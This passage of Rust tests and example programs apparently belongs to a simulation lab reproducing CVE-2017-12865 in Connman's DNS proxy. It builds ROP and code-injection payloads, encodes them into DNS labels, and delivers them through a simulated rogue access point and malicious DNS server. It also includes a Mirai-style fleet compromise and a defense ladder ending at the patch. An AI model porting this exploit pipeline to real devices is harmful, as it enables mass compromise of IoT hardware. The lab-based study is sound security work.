        assert_eq!(exp.len(), 1, "{arch}");
        assert_eq!(
            exp[0]
                .get("reaches_saved_ret")
                .and_then(json::Value::as_bool),
            Some(true),
            "{arch}"
        );
    }
}
