//! Property tests for relocatable payload templates (the PR's core
//! contract): for every exploit-matrix cell, relocating the compiled
//! template to a random slide must be byte-identical to rebuilding the
//! payload from scratch against the slid target, and delivering the
//! template's labels must produce the same outcome as delivering the
//! from-scratch labels on an identically-seeded victim.

use connman_lab::derive_seed;
use connman_lab::exploit::template::apply_slides;
use connman_lab::exploit::{all_strategies, PayloadTemplate, Slides};
use connman_lab::{ExploitStrategy, FirmwareKind, Lab, Protections};

/// The strongest protection policy each strategy is designed to defeat
/// (the matrix diagonal) — outcome parity is checked under it so the
/// expected result is a root shell, the most corruption-sensitive
/// verdict.
fn strongest_defeated(strategy: &dyn ExploitStrategy) -> Protections {
    if strategy.expected_to_defeat(&Protections::full()) {
        Protections::full()
    } else if strategy.expected_to_defeat(&Protections::wxorx()) {
        Protections::wxorx()
    } else {
        Protections::none()
    }
}

/// Deterministic pseudo-random slides: word-aligned page displacements,
/// non-negative and small so shifted addresses stay inside the 32-bit
/// images.
fn slides_for(seed: u64) -> Slides {
    let page = |k: u64| ((derive_seed(seed, k) % 32) * 0x1000) as i64;
    Slides {
        pie: page(1),
        libc: page(2),
        stack: page(3),
        canary: 0,
    }
}

#[test]
fn relocation_matches_rebuild_for_every_cell_and_slide() {
    for strategy in all_strategies() {
        let prot = strongest_defeated(strategy.as_ref());
        let lab = Lab::new(FirmwareKind::OpenElec, strategy.arch()).with_protections(prot);
        let reference = lab.recon().expect("replica recon");
        let template =
            PayloadTemplate::compile(strategy.as_ref(), &reference).expect("cell templates");
        let mut buf = Vec::new();
        let mut labels = Vec::new();
        for k in 0..8u64 {
            let slides = slides_for(0xC0FFEE ^ k);
            template.relocate(&slides, &mut buf);
            let rebuilt = strategy
                .build(&apply_slides(&reference, &slides))
                .expect("rebuild against the slid target");
            let img = rebuilt.image();
            assert_eq!(
                buf.len(),
                img.len(),
                "{}/{} k={k}: image length",
                strategy.name(),
                strategy.arch()
            );
            for (i, &byte) in buf.iter().enumerate() {
                assert_eq!(
                    byte,
                    img.get(i).expect("offset < len").value(),
                    "{}/{} k={k}: byte at offset {i}",
                    strategy.name(),
                    strategy.arch()
                );
            }
            template
                .relocate_labels(&slides, &mut buf, &mut labels)
                .expect("relocated labels");
            template
                .verify_labels(&slides, &labels)
                .unwrap_or_else(|off| {
                    panic!(
                        "{}/{} k={k}: labels lose fixed byte {off}",
                        strategy.name(),
                        strategy.arch()
                    )
                });
        }
    }
}

#[test]
fn template_labels_deliver_the_same_outcome_as_rebuilt_labels() {
    for strategy in all_strategies() {
        let prot = strongest_defeated(strategy.as_ref());
        let lab = Lab::new(FirmwareKind::OpenElec, strategy.arch()).with_protections(prot);
        let reference = lab.recon().expect("replica recon");
        let template =
            PayloadTemplate::compile(strategy.as_ref(), &reference).expect("cell templates");
        for sanitize in [false, true] {
            for k in 0..8u64 {
                let slides = slides_for(0xBEEF ^ k);
                let from_template = template.instantiate(&slides).expect("template labels");
                let from_scratch = strategy
                    .build(&apply_slides(&reference, &slides))
                    .expect("rebuild")
                    .to_labels()
                    .expect("rebuild labels");
                // Two identically-seeded victims, one per label source:
                // the verdicts must agree byte-for-byte of behavior even
                // though the label boundary plans may differ.
                let victim_lab = |payload_labels| {
                    Lab::new(FirmwareKind::OpenElec, strategy.arch())
                        .with_protections(prot)
                        .with_victim_seed(derive_seed(0x7E57, k))
                        .with_sanitizer(sanitize)
                        .attack_with_labels(payload_labels)
                        .expect("victim issues a query")
                };
                let (outcome_t, _) = victim_lab(from_template);
                let (outcome_s, _) = victim_lab(from_scratch);
                assert_eq!(
                    outcome_t,
                    outcome_s,
                    "{}/{} sanitize={sanitize} k={k}",
                    strategy.name(),
                    strategy.arch()
                );
            }
        }
    }
}
