//! Integration: hostile and degenerate inputs must never panic the
//! lab — the daemon either rejects, survives, or dies *in simulation*.

use connman_lab::connman::{ProxyOutcome, Resolution};
use connman_lab::dns::forge::{NameTermination, ResponseForge};
use connman_lab::dns::{Message, Name, Question, RecordType};
use connman_lab::firmware::Firmware;
use connman_lab::{Arch, FirmwareKind, Protections};

fn booted(kind: FirmwareKind, arch: Arch) -> (connman_lab::firmware::Daemon, Message) {
    let fw = Firmware::build(kind, arch);
    let mut daemon = fw.boot(Protections::none(), 42);
    let name = Name::parse("probe.example").unwrap();
    let Resolution::Query(q) = daemon.resolve(&name, RecordType::A) else {
        panic!("cold cache");
    };
    (daemon, Message::decode(&q).unwrap())
}

#[test]
fn truncated_packets_rejected_cleanly() {
    let (mut daemon, query) = booted(FirmwareKind::OpenElec, Arch::X86);
    let full = ResponseForge::answering(&query)
        .with_chunked_payload(&[0x41; 600])
        .unwrap()
        .build()
        .unwrap();
    for cut in [0, 1, 5, 11, 12, 20, full.len() / 2] {
        let out = daemon.deliver_response(&full[..cut]);
        assert!(
            matches!(
                out,
                ProxyOutcome::Rejected(_) | ProxyOutcome::ParseFailed { .. }
            ),
            "cut at {cut}: {out}"
        );
        assert!(daemon.is_running(), "cut at {cut}");
    }
}

#[test]
fn truncation_inside_the_answer_name_is_a_parse_failure_not_a_panic() {
    // Header + question intact, answer name cut mid-label: get_name hits
    // end-of-packet after having written some bytes — an early return,
    // not a crash (the overflow stayed inside the buffer).
    let (mut daemon, query) = booted(FirmwareKind::OpenElec, Arch::X86);
    let full = ResponseForge::answering(&query)
        .with_chunked_payload(&[0x41; 600])
        .unwrap()
        .build()
        .unwrap();
    let cut = full.len() - 30;
    let out = daemon.deliver_response(&full[..cut]);
    assert!(matches!(out, ProxyOutcome::ParseFailed { .. }), "{out}");
    assert!(daemon.is_running());
}

#[test]
fn pointer_loop_terminates_without_hanging() {
    for kind in [FirmwareKind::OpenElec, FirmwareKind::Patched] {
        let (mut daemon, query) = booted(kind, Arch::Armv7);
        let forge = ResponseForge::answering(&query)
            .with_payload_labels(vec![b"loop".to_vec()])
            .unwrap();
        let off = forge.answer_name_offset();
        let bytes = forge
            .terminate(NameTermination::Pointer(off))
            .build()
            .unwrap();
        let out = daemon.deliver_response(&bytes);
        assert!(
            matches!(out, ProxyOutcome::ParseFailed { .. }),
            "{kind:?}: {out}"
        );
        assert!(daemon.is_running());
    }
}

#[test]
fn wrong_arch_payload_crashes_but_never_shells() {
    // Build an x86 chain, fire it at an ARM daemon: garbage control
    // flow, which must end in a crash — not a shell, not a panic.
    use connman_lab::exploit::target::deliver_labels;
    use connman_lab::exploit::{RopMemcpyChain, TargetInfo};
    use connman_lab::ExploitStrategy;

    let x86_fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    let fw2 = x86_fw.clone();
    let info =
        TargetInfo::gather(x86_fw.image(), move || fw2.boot(Protections::none(), 5)).unwrap();
    let labels = RopMemcpyChain::new(Arch::X86)
        .build(&info)
        .unwrap()
        .to_labels()
        .unwrap();

    let arm_fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
    let mut victim = arm_fw.boot(Protections::none(), 9);
    let out = deliver_labels(&mut victim, labels).unwrap();
    assert!(!out.is_root_shell(), "{out}");
    assert!(!victim.is_running());
}

#[test]
fn daemon_down_is_sticky_and_reported() {
    let (mut daemon, query) = booted(FirmwareKind::OpenElec, Arch::X86);
    let kill = ResponseForge::answering(&query)
        .with_chunked_payload(&[0x41; 1300])
        .unwrap()
        .build()
        .unwrap();
    assert!(!daemon.deliver_response(&kill).daemon_alive());
    for _ in 0..3 {
        assert_eq!(daemon.deliver_response(&kill), ProxyOutcome::DaemonDown);
    }
    let name = Name::parse("anything.example").unwrap();
    // A dead daemon can still be asked (state machine stays consistent).
    let _ = daemon.resolve(&name, RecordType::A);
}

#[test]
fn response_flood_with_wrong_ids_changes_nothing() {
    let (mut daemon, query) = booted(FirmwareKind::OpenElec, Arch::Armv7);
    for id in 0..200u16 {
        if id == query.id() {
            continue;
        }
        let bogus = Message::query(
            id,
            Question::new(Name::parse("probe.example").unwrap(), RecordType::A),
        );
        let attack = ResponseForge::answering(&bogus)
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        let out = daemon.deliver_response(&attack);
        assert!(matches!(out, ProxyOutcome::Rejected(_)), "id {id}: {out}");
    }
    assert!(
        daemon.is_running(),
        "spoofing without the txid goes nowhere"
    );
}

#[test]
fn aaaa_vector_works_like_a() {
    // The paper selects Type A "for its universality" but names AAAA as
    // equally viable; verify the other vector.
    let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    let mut daemon = fw.boot(Protections::none(), 42);
    let name = Name::parse("v6.example").unwrap();
    let Resolution::Query(q) = daemon.resolve(&name, RecordType::Aaaa) else {
        panic!("cold cache");
    };
    let query = Message::decode(&q).unwrap();
    let attack = ResponseForge::answering(&query)
        .with_chunked_payload(&[0x41; 1300])
        .unwrap()
        .record_type(RecordType::Aaaa)
        .build()
        .unwrap();
    let out = daemon.deliver_response(&attack);
    assert!(!out.daemon_alive(), "{out}");
}
