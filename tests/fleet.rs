//! The paper's closing remark made concrete: "exploit code designed to
//! create a botnet could be sent to visitors, allowing a recreation of
//! the Mirai attack". One rogue AP, a fleet of heterogeneous devices,
//! every vulnerable one compromised as it phones home.

use std::net::Ipv4Addr;

use connman_lab::dns::{Name, RecordType};
use connman_lab::exploit::{MaliciousDnsServer, RopMemcpyChain};
use connman_lab::netsim::{
    share, AccessPoint, ApConfig, DhcpConfig, HwAddr, RadioEnvironment, Ssid, WifiPineapple,
};
use connman_lab::{Arch, ExploitStrategy, Firmware, FirmwareKind, IotDevice, Lab, Protections};

#[test]
fn one_pineapple_harvests_a_heterogeneous_fleet() {
    let ssid = Ssid::new("SmartHome");
    let protections = Protections::full();

    // Attacker prep: one payload per architecture, from local replicas.
    let mut payloads = Vec::new();
    for arch in Arch::ALL {
        let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(protections);
        let target = lab.recon().unwrap();
        payloads.push((arch, RopMemcpyChain::new(arch).build(&target).unwrap()));
    }

    // The home network.
    let mut env = RadioEnvironment::new();
    let dns = Ipv4Addr::new(10, 0, 0, 53);
    env.add_ap(AccessPoint::new(ApConfig {
        ssid: ssid.clone(),
        bssid: HwAddr::local(1),
        signal_dbm: -52,
        dhcp: DhcpConfig::new([10, 0, 0], dns),
    }));
    let mut upstream = MaliciousDnsServer::benign(Ipv4Addr::new(203, 0, 113, 99));
    env.register_service(dns, share(move |p: &[u8]| upstream.handle(p)));

    // A fleet: vulnerable ARM devices, vulnerable x86 devices, and a
    // couple of patched ones.
    let mut fleet: Vec<(String, IotDevice, bool)> = Vec::new();
    for i in 0..3u16 {
        let fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
        fleet.push((
            format!("smart-tv-{i}"),
            IotDevice::boot(
                &fw,
                protections,
                100 + i as u64,
                HwAddr::local(0x10 + i),
                ssid.clone(),
            ),
            true,
        ));
    }
    for i in 0..2u16 {
        let fw = Firmware::build(FirmwareKind::Yocto, Arch::X86);
        fleet.push((
            format!("thermostat-{i}"),
            IotDevice::boot(
                &fw,
                protections,
                200 + i as u64,
                HwAddr::local(0x20 + i),
                ssid.clone(),
            ),
            true,
        ));
    }
    for i in 0..2u16 {
        let fw = Firmware::build(FirmwareKind::Patched, Arch::Armv7);
        fleet.push((
            format!("updated-cam-{i}"),
            IotDevice::boot(
                &fw,
                protections,
                300 + i as u64,
                HwAddr::local(0x30 + i),
                ssid.clone(),
            ),
            false,
        ));
    }

    // Everybody joins and works.
    let host = Name::parse("cloud.vendor.example").unwrap();
    for (name, dev, _) in fleet.iter_mut() {
        assert!(dev.reconnect(&mut env), "{name} joins");
        let out = dev.lookup(&mut env, &host, RecordType::A);
        assert!(dev.is_alive(), "{name} healthy before attack: {out}");
    }

    // The Pineapple arrives. Its DNS server fingerprints nothing — it
    // just serves the ARM payload; for the x86 devices we flip payloads
    // between rounds (a real attacker would fingerprint or iterate the
    // same way).
    let (_, arm_payload) = payloads.iter().find(|(a, _)| *a == Arch::Armv7).unwrap();
    let (_, x86_payload) = payloads.iter().find(|(a, _)| *a == Arch::X86).unwrap();
    let mut evil_arm = MaliciousDnsServer::new(arm_payload).unwrap();
    let pineapple =
        WifiPineapple::deploy(&mut env, &ssid, share(move |p: &[u8]| evil_arm.handle(p)))
            .expect("ssid on air");

    // Round one: every device re-scans (hops to the stronger clone) and
    // phones home — ARM devices die here.
    for (name, dev, _) in fleet.iter_mut() {
        assert!(dev.reconnect(&mut env), "{name} lured");
        let fresh = Name::parse(&format!("telemetry-{name}.vendor.example")).unwrap();
        let _ = dev.lookup(&mut env, &fresh, RecordType::A);
    }

    // Round two: swap in the x86 payload and let survivors look up again.
    let mut evil_x86 = MaliciousDnsServer::new(x86_payload).unwrap();
    env.register_service(
        pineapple.dns_addr(),
        share(move |p: &[u8]| evil_x86.handle(p)),
    );
    for (name, dev, _) in fleet.iter_mut() {
        let fresh = Name::parse(&format!("round2-{name}.vendor.example")).unwrap();
        let _ = dev.lookup(&mut env, &fresh, RecordType::A);
    }

    // Verdict: all vulnerable devices compromised, patched ones alive.
    let mut compromised = 0;
    for (name, dev, vulnerable) in &fleet {
        if *vulnerable {
            assert!(!dev.is_alive(), "{name} should be compromised");
            compromised += 1;
        } else {
            assert!(dev.is_alive(), "{name} (patched) should survive");
        }
    }
    assert_eq!(compromised, 5, "the whole vulnerable fleet fell");
}

/// The throughput-oriented fleet runner must be deterministic in its
/// worker count: device seeds derive from the device index, not from
/// scheduling order, and results merge in fleet order.
#[test]
fn fleet_scenario_is_byte_identical_serial_vs_parallel() {
    use connman_lab::fleet::{run_fleet, FleetSpec};

    let spec = FleetSpec::heterogeneous(25, 0xBEEF);
    let serial = run_fleet(&spec, 1);
    let parallel = run_fleet(&spec, 4);
    assert_eq!(serial.render(), parallel.render());
    assert_eq!(serial.compromised(), parallel.compromised());
    // Re-running the same spec reproduces the same bytes, too.
    assert_eq!(parallel.render(), run_fleet(&spec, 3).render());
}

/// A campaign described by explicit cohorts — mixed firmware versions,
/// mitigation configs, packet-loss profiles and boot-entropy models —
/// streams per-cohort accumulators and still renders byte-identically
/// at any worker count.
#[test]
fn cohort_campaign_streams_byte_identical_reports() {
    use connman_lab::fleet::{run_fleet, CohortSpec, FleetSpec};

    let spec = FleetSpec {
        base_seed: 0xB07,
        cohorts: CohortSpec::parse_list(
            "tv=openelec/armv7/full/40/entropy=3,\
             thermostat=yocto/x86/wxorx/30,\
             settop=tizen/armv7/full/20/loss=10%,\
             camera=patched/armv7/full/10",
        )
        .expect("cohort spec parses"),
    };
    let serial = run_fleet(&spec, 1);
    for jobs in [2, 4] {
        assert_eq!(
            serial.render(),
            run_fleet(&spec, jobs).render(),
            "per-cohort sections must not depend on worker count (jobs={jobs})"
        );
    }

    assert_eq!(serial.devices, 100);
    let by_name = |n: &str| {
        serial
            .cohorts
            .iter()
            .find(|c| c.spec.name == n)
            .expect("cohort present")
    };
    // 3 bits of boot entropy over 40 TVs → 8 address classes, every
    // device compromised by its class's session.
    let tv = by_name("tv");
    assert_eq!(tv.accum.compromised, 40);
    // The lossy set-top cohort loses some devices to the air, and every
    // delivered payload still lands.
    let settop = by_name("settop");
    assert_eq!(settop.accum.compromised + settop.accum.lost, 20);
    // Patched firmware refuses the payload and survives.
    let camera = by_name("camera");
    assert_eq!(camera.accum.compromised, 0);
    assert_eq!(camera.accum.alive, 10);
}
