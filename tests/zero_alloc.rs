//! Counting-allocator proof of the pooled zero-copy claim: after
//! warm-up, a steady-state fleet iteration's template + packet path —
//! relocate the payload template, re-emit its labels, answer the
//! canonical proxy query into a pooled buffer — performs **zero** heap
//! allocations.
//!
//! This file installs a `#[global_allocator]` and therefore holds
//! exactly one test: a sibling test thread would pollute the counter.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};

use connman_lab::dns::{BufPool, Message, Name, Question, RecordType};
use connman_lab::exploit::{MaliciousDnsServer, PayloadTemplate, RopMemcpyChain, Slides};
use connman_lab::{Arch, FirmwareKind, Lab, Protections};

/// Counts every allocation-acquiring call; frees are not counted (the
/// steady-state claim is about acquiring memory, and the pool's whole
/// point is that nothing is released either).
struct CountingAllocator;

static ALLOCS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.alloc(layout)
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.alloc_zeroed(layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        System.realloc(ptr, layout, new_size)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
}

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

#[test]
fn steady_state_template_and_packet_path_is_allocation_free() {
    // Cold setup: recon, template compile, server construction, query
    // bytes — all allowed to allocate freely.
    let lab = Lab::new(FirmwareKind::OpenElec, Arch::X86).with_protections(Protections::full());
    let reference = lab.recon().expect("replica recon");
    let strategy = RopMemcpyChain::new(Arch::X86);
    let template = PayloadTemplate::compile(&strategy, &reference).expect("template compiles");
    assert!(
        template.has_static_plan(),
        "zero-alloc label re-emission needs the slide-invariant plan"
    );
    let labels = template
        .instantiate(&Slides::identity())
        .expect("identity labels");
    let mut server = MaliciousDnsServer::with_labels(labels, template.name());
    let query = Message::query(
        0x5150,
        Question::new(
            Name::parse("telemetry.vendor.example").expect("valid"),
            RecordType::A,
        ),
    )
    .encode()
    .expect("encodes");

    // Alternating slides prove the relocation itself (not just a no-op
    // repeat) stays allocation-free on warm buffers.
    let slide_a = Slides {
        pie: 0x4000,
        ..Slides::identity()
    };
    let slide_b = Slides {
        pie: 0x1_2000,
        ..Slides::identity()
    };

    let mut pool = BufPool::new();
    let mut buf = Vec::new();
    let mut relabeled = Vec::new();

    let iteration = |i: usize,
                     pool: &mut BufPool,
                     buf: &mut Vec<u8>,
                     relabeled: &mut Vec<Vec<u8>>,
                     server: &mut MaliciousDnsServer| {
        let slides = if i.is_multiple_of(2) {
            &slide_a
        } else {
            &slide_b
        };
        template
            .relocate_labels(slides, buf, relabeled)
            .expect("static plan");
        let mut out = pool.checkout();
        assert!(server.handle_into(&query, &mut out), "query answered");
        pool.checkin(out);
    };

    // Warm-up: first pass sizes every buffer, label vec, and the pool.
    for i in 0..4 {
        iteration(i, &mut pool, &mut buf, &mut relabeled, &mut server);
    }

    let before = ALLOCS.load(Ordering::Relaxed);
    for i in 0..64 {
        iteration(i, &mut pool, &mut buf, &mut relabeled, &mut server);
    }
    let after = ALLOCS.load(Ordering::Relaxed);
    assert_eq!(
        after - before,
        0,
        "steady-state iterations must not touch the heap"
    );

    // Batched answer fan-out: the per-class answer is a byte-compare
    // and a borrow from the cohort's AnswerBank, and spreading one
    // verdict over a device range (with and without per-device loss
    // draws) folds into integer accumulators — none of it may allocate.
    use connman_lab::exploit::AnswerBank;
    use connman_lab::fleet::{fan_out, CohortAccum, Verdict};

    let mut bank =
        AnswerBank::capture(&mut server, &query).expect("canonical query captures a response");
    let mut acc = CohortAccum::default();

    let before = ALLOCS.load(Ordering::Relaxed);
    for class in 0..64u64 {
        let response = bank.answer(&query).expect("banked response matches");
        assert!(!response.is_empty());
        let first = class * 245;
        // Lossless cohorts fan out in O(1); lossy cohorts draw each
        // device's fate from the seed stream.
        fan_out(Verdict::Shell, first..first + 245, 0xF1EE7, 0, &mut acc);
        fan_out(
            Verdict::Shell,
            first..first + 245,
            0xF1EE7,
            20_000,
            &mut acc,
        );
    }
    let after = ALLOCS.load(Ordering::Relaxed);
    assert_eq!(
        after - before,
        0,
        "batched fan-out steady state must not touch the heap"
    );
    assert_eq!(acc.devices, 64 * 245 * 2);
    assert!(acc.lost > 0, "the lossy draws actually fired");

    // Resolver cache: after one recursive miss fills the cache and a
    // warm-up hit sizes the output buffer, every steady-state cache hit
    // (hashed canonical-qname lookup + pooled answer copy + id patch)
    // is allocation-free — the path the million-QPS headline times.
    use connman_lab::netsim::{example_internet, RecursiveResolver};

    let (mut net, _) = example_internet();
    let mut resolver = RecursiveResolver::new(0x5EED, 64);
    let rq = Message::query(
        0x3111,
        Question::new(
            Name::parse("Telemetry.Vendor.Example").expect("valid"),
            RecordType::A,
        ),
    )
    .encode()
    .expect("encodes");
    let mut rbuf = Vec::new();
    assert!(
        resolver.handle_query_into(&mut net, &rq, &mut rbuf),
        "the demo name resolves"
    );
    for _ in 0..4 {
        assert!(resolver.handle_query_into(&mut net, &rq, &mut rbuf));
    }

    let before = ALLOCS.load(Ordering::Relaxed);
    for _ in 0..64 {
        assert!(resolver.handle_query_into(&mut net, &rq, &mut rbuf));
    }
    let after = ALLOCS.load(Ordering::Relaxed);
    assert_eq!(
        after - before,
        0,
        "warm resolver cache hits must not touch the heap"
    );
    assert_eq!(resolver.cache().stats().hits, 68);
    assert_eq!(
        resolver.stats().upstream_queries,
        3,
        "only the first miss recursed"
    );
}
