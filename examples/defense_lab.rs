//! Defense lab: walk the whole attack/defense ladder of the paper —
//! each protection level, the technique that defeats it, and the §IV
//! mitigations that finally hold.
//!
//! ```text
//! cargo run --example defense_lab
//! ```

use connman_lab::exploit::{strategies_for, ArmGadgetExeclp, CodeInjection, RopMemcpyChain};
use connman_lab::{Arch, AttackOutcome, ExploitStrategy, FirmwareKind, Lab, Protections};

fn attack(
    protections: Protections,
    strategy: &dyn ExploitStrategy,
) -> Result<String, Box<dyn std::error::Error>> {
    let lab = Lab::new(FirmwareKind::OpenElec, strategy.arch()).with_protections(protections);
    let report = lab.run_exploit(strategy)?;
    Ok(format!(
        "{:<24} vs {:<16} → {}",
        strategy.name(),
        protections.label(),
        report.outcome
    ))
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("the attack/defense ladder (ARMv7)\n");
    let arm = Arch::Armv7;

    println!("-- rung 1: no protections --");
    println!("{}", attack(Protections::none(), &CodeInjection::new(arm))?);

    println!("\n-- rung 2: W⊕X stops injection, gadgets reuse code --");
    println!(
        "{}",
        attack(Protections::wxorx(), &CodeInjection::new(arm))?
    );
    println!("{}", attack(Protections::wxorx(), &ArmGadgetExeclp::new())?);

    println!("\n-- rung 3: ASLR moves libc, ROP over fixed sections survives --");
    println!("{}", attack(Protections::full(), &ArmGadgetExeclp::new())?);
    println!(
        "{}",
        attack(Protections::full(), &RopMemcpyChain::new(arm))?
    );

    println!("\n-- rung 4: the paper's §IV mitigations --");
    for protections in [
        Protections::full().with_canary(),
        Protections::full().with_cfi(),
    ] {
        for strategy in strategies_for(arm) {
            let line = attack(protections, strategy.as_ref())?;
            println!("{line}");
        }
    }

    println!("\n-- and the actual fix: patch to Connman 1.35 --");
    let patched = Lab::new(FirmwareKind::Patched, arm).with_protections(Protections::none());
    match patched.run_exploit(&RopMemcpyChain::new(arm)) {
        Err(e) => println!("rop-memcpy-chain         vs Connman 1.35    → {e}"),
        Ok(r) => {
            assert_ne!(r.outcome, AttackOutcome::RootShell);
            println!(
                "rop-memcpy-chain         vs Connman 1.35    → {}",
                r.outcome
            );
        }
    }
    Ok(())
}
