//! The §III-D scenario end-to-end: a Wi-Fi Pineapple lures an IoT
//! device and exploits it through an ordinary DNS lookup.
//!
//! ```text
//! cargo run --example rogue_access_point
//! ```

use std::net::Ipv4Addr;

use connman_lab::dns::{Name, RecordType};
use connman_lab::exploit::{MaliciousDnsServer, RopMemcpyChain};
use connman_lab::netsim::{
    share, AccessPoint, ApConfig, DhcpConfig, HwAddr, RadioEnvironment, Ssid, WifiPineapple,
};
use connman_lab::{Arch, FirmwareKind, IotDevice, Lab, Protections};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("rogue access point demo (paper §III-D / Fig. 1)\n");
    let protections = Protections::full();
    let lab = Lab::new(FirmwareKind::OpenElec, Arch::Armv7).with_protections(protections);
    let fw = lab.firmware().clone();

    // -- Attacker preparation (their own bench, before going on-site) --
    let target = lab.recon()?;
    let payload = connman_lab::ExploitStrategy::build(&RopMemcpyChain::new(Arch::Armv7), &target)?;
    println!("payload prepared: {payload}");

    // -- The legitimate environment --
    let mut env = RadioEnvironment::new();
    let home_dns = Ipv4Addr::new(192, 168, 1, 53);
    env.add_ap(AccessPoint::new(ApConfig {
        ssid: Ssid::new("CoffeeShopWiFi"),
        bssid: HwAddr::local(1),
        signal_dbm: -58,
        dhcp: DhcpConfig::new([192, 168, 1], home_dns),
    }));
    let mut upstream = MaliciousDnsServer::benign(Ipv4Addr::new(93, 184, 216, 34));
    env.register_service(home_dns, share(move |p: &[u8]| upstream.handle(p)));

    // -- The victim: a stock smart device --
    let mut device = IotDevice::boot(
        &fw,
        protections,
        0x1234,
        HwAddr::local(0x42),
        Ssid::new("CoffeeShopWiFi"),
    );
    device.reconnect(&mut env);
    let ota = Name::parse("ota.vendor.example")?;
    println!(
        "device joins, resolves normally: {}",
        device.lookup(&mut env, &ota, RecordType::A)
    );

    // -- The Pineapple goes live --
    let mut evil = MaliciousDnsServer::new(&payload)?;
    let pineapple = WifiPineapple::deploy(
        &mut env,
        &Ssid::new("CoffeeShopWiFi"),
        share(move |p: &[u8]| evil.handle(p)),
    )
    .expect("target ssid on air");
    println!(
        "\npineapple up: cloning {:?}, malicious DNS at {}",
        pineapple.cloned_ssid().as_str(),
        pineapple.dns_addr()
    );
    let hopped = device.reconnect(&mut env);
    println!("device re-associates to the stronger signal: {hopped}");

    // -- The next routine lookup is the end --
    let telemetry = Name::parse("telemetry.vendor.example")?;
    let outcome = device.lookup(&mut env, &telemetry, RecordType::A);
    println!("device looks up telemetry host… {outcome}");
    assert!(outcome.compromised(), "expected a root shell");
    println!("\ndevice compromised with zero configuration changes on the victim.");
    Ok(())
}
