//! ROP workbench: poke at the exploit-construction pipeline piece by
//! piece — reconnaissance, gadget harvest, chain assembly, label
//! encoding — and watch the machine execute the hijacked control flow.
//!
//! ```text
//! cargo run --example rop_workbench
//! ```

use connman_lab::exploit::target::deliver_labels;
use connman_lab::exploit::{GadgetKind, RopMemcpyChain, TargetInfo};
use connman_lab::firmware::Firmware;
use connman_lab::vm::debug::Inspector;
use connman_lab::{Arch, ExploitStrategy, FirmwareKind, Protections};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let arch = Arch::X86;
    let fw = Firmware::build(FirmwareKind::OpenElec, arch);
    println!("=== 1. reconnaissance (simulated gdb) ===");
    let fw2 = fw.clone();
    let info = TargetInfo::gather(fw.image(), move || fw2.boot(Protections::full(), 5))?;
    println!("buffer→ret offset : {}", info.frame.ret_offset);
    println!(
        "buffer address    : {:#010x} (reference boot)",
        info.frame.buf_addr
    );
    println!(".bss staging base : {:#010x}", info.bss_base);
    println!("memcpy@plt        : {:#010x}", info.plt("memcpy").unwrap());
    println!("execlp@plt        : {:#010x}", info.plt("execlp").unwrap());

    println!("\n=== 2. gadget harvest ({} found) ===", info.gadgets.len());
    for g in info.gadgets.iter().take(10) {
        println!("  {g}");
    }
    let ppppr = info
        .gadgets
        .iter()
        .find(|g| matches!(&g.kind, GadgetKind::X86PopChain { regs } if regs.len() == 4))
        .expect("pop pop pop pop ret");
    println!("chosen cleanup gadget: {ppppr}");

    println!("\n=== 3. chain assembly ===");
    let payload = RopMemcpyChain::new(arch).build(&info)?;
    println!("{}", payload.listing());

    println!("=== 4. DNS label encoding ===");
    let labels = payload.to_labels()?;
    println!(
        "{} labels, lengths: {:?}…",
        labels.len(),
        labels.iter().take(8).map(Vec::len).collect::<Vec<_>>()
    );

    println!("\n=== 5. fire against a fresh ASLR boot (traced) ===");
    let mut victim = fw.boot(Protections::full(), 999_999);
    victim.enable_trace(256);
    let outcome = deliver_labels(&mut victim, labels).expect("victim queries");
    println!("outcome: {outcome}");

    println!("\n=== 5b. the hijacked control flow, gadget by gadget ===");
    if let Some(trace) = victim.machine().trace() {
        for entry in trace.tail(24) {
            let text = Inspector::new(victim.machine())
                .disassemble(entry.pc, 1)
                .into_iter()
                .next()
                .unwrap_or_else(|| format!("{:#010x}: <native>", entry.pc));
            match entry.hook {
                Some(hook) => println!("  {text}   [libc: {hook}]"),
                None => println!("  {text}"),
            }
        }
    }

    println!("\n=== 6. post-mortem: the staged string in .bss ===");
    let inspector = Inspector::new(victim.machine());
    let staged = inspector.find(b"/bin/sh");
    for addr in &staged {
        println!("  \"/bin/sh\" found at {addr:#010x}");
    }
    assert!(outcome.is_root_shell());
    Ok(())
}
