//! Quickstart: boot a vulnerable firmware, crash it, exploit it.
//!
//! ```text
//! cargo run --example quickstart
//! ```

use connman_lab::exploit::strategies::DosCrash;
use connman_lab::exploit::RopMemcpyChain;
use connman_lab::{Arch, AttackOutcome, FirmwareKind, Lab, Protections};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("connman-lab quickstart: CVE-2017-12865 in simulation\n");

    // 1. An OpenELEC-style firmware (Connman 1.34) on ARMv7, with both
    //    W⊕X and ASLR enabled — the paper's hardest configuration.
    let lab = Lab::new(FirmwareKind::OpenElec, Arch::Armv7).with_protections(Protections::full());
    println!(
        "target: {} on {}, protections: {}",
        lab.firmware().kind(),
        lab.firmware().arch(),
        lab.protections().label()
    );

    // 2. Denial of service: an oversized Type-A response kills the
    //    daemon at every protection level.
    let dos = lab.run_exploit(&DosCrash::new())?;
    println!("\n[1] oversized response  → {}", dos.outcome);

    // 3. Remote code execution: the ROP memcpy-chain stages "sh" in
    //    .bss through memcpy@plt and calls execlp@plt — all via
    //    ASLR-immune addresses.
